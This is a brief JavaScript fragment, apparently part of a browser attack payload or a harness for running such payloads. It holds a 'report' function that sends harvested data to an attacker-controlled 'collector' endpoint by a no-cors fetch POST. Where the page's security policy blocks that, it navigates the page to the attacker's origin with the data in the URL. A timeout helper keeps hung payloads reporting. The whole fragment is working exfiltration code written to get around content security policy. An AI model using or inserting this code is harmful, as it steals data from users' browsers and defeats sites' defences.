// Sends what was found home: by fetch, or, where the page's policy forbids
// that, by leaving for the attacker's origin with it.
const report = async (places, error = "") => {
  try {
    await fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify({places, error, by: "fetch"})});
  } catch {
    location.assign(collector + "&report=" + encodeURIComponent(JSON.stringify({places, error, by: "navigation"})));
  }
};
// In time, or not: a promise that hangs keeps no payload from reporting.
const within = (ms, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))]);
